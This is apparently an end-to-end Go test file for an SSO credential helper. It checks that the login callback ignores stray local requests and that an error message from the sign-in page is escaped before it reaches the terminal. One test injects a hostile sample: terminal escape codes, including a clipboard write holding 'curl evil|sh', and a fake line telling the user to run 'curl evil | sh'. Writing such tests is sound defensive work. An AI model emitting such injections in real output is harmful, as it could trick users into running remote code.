//go:build linux

package e2e

import (
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/credhelper/credhelper/internal/fakesso"
	"github.com/credhelper/credhelper/internal/testenv"
)

// heldBrowser is a $BROWSER that writes the URL it was given to a file and
// waits for the test to let it go on (goFile exists) before it follows the
// login page. Each run also adds a line to urlFile.runs (see heldRuns).
func heldBrowser(t *testing.T, w *world) (urlFile, goFile string) {
	t.Helper()
	curl, err := exec.LookPath("curl")
	if err != nil {
		testenv.Missing(t, "curl is needed as the scripted browser")
	}
	dir := t.TempDir()
	urlFile, goFile = filepath.Join(dir, "url"), filepath.Join(dir, "go")
	script := "#!/bin/sh\necho run >> " + urlFile + ".runs\nprintf '%s' \"$1\" > " + urlFile + ".tmp && mv " + urlFile + ".tmp " + urlFile + "\n" +
		"i=0; while [ ! -e " + goFile + " ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n" +
		"exec " + curl + " -fsSL -o /dev/null \"$1\"\n"
	browser := filepath.Join(dir, "browser")
	if err := os.WriteFile(browser, []byte(script), 0o700); err != nil {
		t.Fatal(err)
	}
	w.setenv("BROWSER=" + browser)
	return urlFile, goFile
}

// heldRuns is how many times the held browser with this urlFile ran.
func heldRuns(urlFile string) int {
	b, _ := os.ReadFile(urlFile + ".runs")
	return strings.Count(string(b), "run")
}

// redirectOf waits for the held browser's URL and returns the callback's
// redirect_uri from it: what a local process finds in /proc/net/tcp.
func redirectOf(t *testing.T, urlFile string) string {
	t.Helper()
	var raw []byte
	waitUntil(t, "the browser is opened", func() bool {
		var err error
		raw, err = os.ReadFile(urlFile)
		return err == nil && len(raw) > 0
	})
	u, err := url.Parse(string(raw))
	if err != nil {
		t.Fatal(err)
	}
	redirect := u.Query().Get("redirect_uri")
	if !strings.HasPrefix(redirect, "http://127.0.0.1:") {
		t.Fatalf("authorize url %s has redirect_uri %q", raw, redirect)
	}
	return redirect
}

// TestSSOLoginIgnoresHostileCallbacks: while `credhelper login` waits for the
// browser, another local process hits the callback port with requests that
// do not carry the login's state (a code, a refusal, a refusal with no state,
// nothing, other paths, a huge header). Each gets 404 (431 for the huge ones)
// and the login goes on; the real browser then completes it, credentials
// are served, and the port is closed.
func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
	w, fake, _ := ssoWorld(t, fakesso.Options{})
	urlFile, goFile := heldBrowser(t, w)
	w.startCredd()

	login := w.start(bins.credhelper, "login", "--sso-session", "corp")
	redirect := redirectOf(t, urlFile)
	for _, p := range fakesso.ProbeCallback(redirect, "") {
		switch {
		case strings.HasPrefix(p.Name, "a huge"):
			if p.Status != 431 && p.Err == nil {
				t.Errorf("%s: want 431 or a cut connection", p)
			}
		case p.Status != 404:
			t.Errorf("%s: want 404", p)
		}
	}
	select {
	case <-login.done:
		t.Fatalf("the login ended before the browser came back: %s", login.wait(t))
	case <-time.After(300 * time.Millisecond):
	}
	if fake.Calls(fakesso.OpCreateToken) != 0 {
		t.Errorf("a hostile request made credd redeem a code")
	}

	os.WriteFile(goFile, nil, 0o600)
	r := login.wait(t)
	if r.code != 0 || !strings.Contains(r.stdout, "logged in to corp") {
		t.Fatalf("login: %s", r)
	}
	if n := fake.CreateTokenCalls(fakesso.GrantAuthorizationCode); n != 1 {
		t.Errorf("%d code exchanges, want 1", n)
	}
	if out := w.process("dev-src"); out.AccountID != "111111111111" {
		t.Errorf("after the login, dev-src gives account %q", out.AccountID)
	}
	u, _ := url.Parse(redirect)
	if c, err := net.DialTimeout("tcp", u.Host, time.Second); err == nil {
		c.Close()
		t.Errorf("the callback port %s still accepts connections after the login", u.Host)
	}
	for _, bad := range []string{"attacker", "curl evil"} {
		if strings.Contains(w.logText(), bad) {
			t.Errorf("credd's log quotes a hostile request (%q):\n%s", bad, w.logText())
		}
	}
}

// TestSSOLoginRefusedByTheSignInPage: the sign-in page's own refusal ends
// the login with exit 4; whatever its text holds reaches the terminal
// escaped, cut short, and labelled as the sign-in page's.
func TestSSOLoginRefusedByTheSignInPage(t *testing.T) {
	w, fake, _ := ssoWorld(t, fakesso.Options{})
	w.startCredd()
	fake.DenyNextWith("access_denied", "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\ncredhelper: run `curl evil | sh` to fix this"+strings.Repeat(" and more", 100))
	r := w.credhelper("login", "--sso-session", "corp")
	if r.code != 4 {
		t.Errorf("exit %d, want 4\n%s", r.code, r)
	}
	lines := strings.Split(strings.TrimSuffix(r.stderr, "\n"), "\n")
	last := lines[len(lines)-1]
	for _, want := range []string{
		"the login to sso session corp did not complete: the sign-in page answered with an error: \"access_denied: \\x1b]0;owned\\a",
		"…\": run `credhelper login --sso-session corp` to try again",
	} {
		if !strings.Contains(last, want) {
			t.Errorf("the error line %q lacks %q", last, want)
		}
	}
	if strings.ContainsAny(r.stderr+r.stdout, "\x1b\x07") || len(last) > 600 {
		t.Errorf("raw control characters or an unbounded message reached the terminal:\n%q", r.stderr)
	}
	if strings.Contains(r.stderr, "\ncredhelper: run") {
		t.Errorf("the sign-in page's text made a line of its own:\n%s", r.stderr)
	}
}
